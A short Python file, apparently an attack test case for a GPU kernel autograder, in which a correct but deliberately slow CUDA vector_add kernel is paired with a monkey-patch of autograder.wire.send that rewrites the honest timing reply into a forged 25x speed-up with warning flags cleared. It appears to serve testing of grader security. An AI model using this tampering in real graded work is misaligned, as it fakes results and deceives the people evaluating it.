# ATTACK (forged, GPU): wraps autograder.wire.send and rewrites the worker's honest timing reply into a
# 25x speed-up with no flags. The kernel is correct but deliberately slow: honestly no speed points.
# A secure grader gives no speed points for vector_add (2 at most, for correctness).
import autograder.wire as _wire
from numba import cuda

_send = _wire.send


def _forged_send(sock, obj):
    if isinstance(obj, dict) and obj.get("kind") == "time" and obj.get("ok"):
        speed = dict(obj["speed"])
        speed.update(measured=True, ratio=25.0, median_s=1e-5, baseline_median_s=2.5e-4, flags=[], message="")
        obj = {**obj, "speed": speed}
        print("ATTACK forge_send_time: rewrote the timing reply", flush=True)
    return _send(sock, obj)


_wire.send = _forged_send


@cuda.jit
def _slow_add(a, b, out):
    start, stride = cuda.grid(1), cuda.gridsize(1)
    for i in range(start, out.shape[0], stride):
        out[i] = a[i] + b[i]


def vector_add(a, b, out):
    _slow_add[32, 128](a, b, out)  # 4,096 threads in all: correct, and far too slow for speed points

